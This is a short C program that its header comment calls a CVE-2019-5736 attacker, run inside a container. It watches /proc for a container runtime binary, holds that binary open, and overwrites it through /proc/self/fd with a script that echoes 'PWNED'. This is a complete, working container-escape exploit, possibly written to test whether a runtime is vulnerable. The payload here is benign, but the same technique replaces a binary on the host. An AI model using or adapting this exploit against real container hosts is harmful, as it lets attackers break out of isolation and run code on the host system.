/* CVE-2019-5736 attacker, run inside the container. It watches /proc for any process whose exe
 * is a file called like the runtime, grabs it with O_PATH while it runs, and keeps trying to
 * reopen it for writing through /proc/self/fd once the runtime exits (ETXTBSY ends then).
 * Against a runtime that execs the user's program directly from its host binary, an entrypoint
 * of "#!/proc/self/exe" makes the kernel run that host binary inside the container, where this
 * program can reach and overwrite it. Output: one line per exe seen, "OVERWROTE path" on success. */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#define MAXH 256

int main(int argc, char **argv)
{
	int held[MAXH], nheld = 0;
	char seen[64][256];
	int nseen = 0;
	time_t end = time(NULL) + (argc > 1 ? atoi(argv[1]) : 10);
	const char *needle = argc > 2 ? argv[2] : "hull";

	setvbuf(stdout, NULL, _IONBF, 0);
	while (time(NULL) < end) {
		DIR *d = opendir("/proc");
		struct dirent *de;
		while (d && (de = readdir(d))) {
			char p[64], target[256];
			ssize_t n;
			int fd;
			if (de->d_name[0] < '0' || de->d_name[0] > '9' || atoi(de->d_name) == getpid())
				continue;
			snprintf(p, sizeof p, "/proc/%s/exe", de->d_name);
			n = readlink(p, target, sizeof target - 1);
			if (n <= 0)
				continue;
			target[n] = '\0';
			if (!strstr(target, needle))
				continue;
			{
				int known = 0;
				for (int i = 0; i < nseen; i++)
					known |= !strcmp(seen[i], target);
				if (!known && nseen < 64) {
					snprintf(seen[nseen++], sizeof seen[0], "%s", target);
					printf("SAW %s\n", target);
				}
			}
			fd = open(p, O_PATH);
			if (fd >= 0 && nheld < MAXH)
				held[nheld++] = fd;
			else if (fd >= 0)
				close(fd);
		}
		if (d)
			closedir(d);
		for (int i = 0; i < nheld; i++) {
			char p[64];
			int w;
			snprintf(p, sizeof p, "/proc/self/fd/%d", held[i]);
			w = open(p, O_WRONLY | O_TRUNC);
			if (w >= 0) {
				char t[256];
				ssize_t n = readlink(p, t, sizeof t - 1);
				t[n > 0 ? n : 0] = '\0';
				if (write(w, "#!/bin/sh\necho PWNED\n", 21) > 0)
					printf("OVERWROTE %s\n", t);
				close(w);
			}
		}
		usleep(200);
	}
	return 0;
}
